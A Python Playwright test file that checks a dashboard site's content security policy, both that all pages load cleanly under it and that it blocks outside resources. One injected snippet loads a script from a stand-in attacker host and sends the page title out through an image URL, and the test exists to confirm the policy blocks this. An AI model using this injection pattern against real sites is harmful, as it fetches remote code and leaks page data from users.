"""The content security policy of SECURITY.md: every page works under it, and it holds back the rest."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from pipelines.settings import PROJECT_ROOT
from tests.dashboards.sites import open_page

pytestmark = pytest.mark.browser

PAGES = ("", "ledger", "documents", "data", "sources")
_OF_THE_BODY = frozenset(("content-encoding", "content-length"))
WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", event => {
    window.refused.push(event.effectiveDirective + " " + event.blockedURI);
});
"""
FOREIGN = """() => {
    const script = document.createElement("script");
    script.src = "https://evil.example/x.js";
    document.head.append(script);
    const image = new Image();
    image.src = "https://evil.example/x.png?" + document.title;
}"""


def read_policy() -> str:
    """The policy as SECURITY.md writes it down."""
    written = (PROJECT_ROOT / "SECURITY.md").read_text("utf-8")
    (policy,) = re.findall(r'add_header Content-Security-Policy "([^"]+)"', written)
    return str(policy)


@pytest.fixture
def guarded(browser: Browser, browser_path: Path) -> Iterator[Page]:
    """A page whose every answer comes with the policy, as behind the proxy."""
    # The browser takes an answer that passed through this test for one of the internet, which may not ask this machine.
    args = ["--no-sandbox", "--disable-features=LocalNetworkAccessChecks"]
    own = browser.browser_type.launch(executable_path=browser_path, args=args)
    page = own.new_page()

    def answer(route: Route) -> None:
        reply = route.fetch(max_retries=3)
        # The body comes unpacked.
        headers = {name: value for name, value in reply.headers.items() if name not in _OF_THE_BODY}
        route.fulfill(response=reply, headers={**headers, "content-security-policy": read_policy()})

    page.set_default_timeout(90_000)
    page.add_init_script(WATCH)
    page.route(lambda url: url.startswith("http://127.0.0.1"), answer)
    yield page
    own.close()


def test_every_page_works_under_the_policy(site: str, guarded: Page) -> None:
    for name in PAGES:
        open_page(guarded, f"{site}/{name}")
        guarded.wait_for_timeout(300)
        assert guarded.evaluate("() => window.refused") == [], name
        assert guarded.locator("[data-testid=stException]").count() == 0, name


def test_the_policy_holds_back_what_is_not_of_the_site(site: str, guarded: Page) -> None:
    open_page(guarded, site)
    guarded.evaluate(FOREIGN)
    guarded.wait_for_timeout(500)
    refused = sorted(words.split()[0] for words in guarded.evaluate("() => window.refused"))
    assert refused == ["img-src", "script-src-elem"]
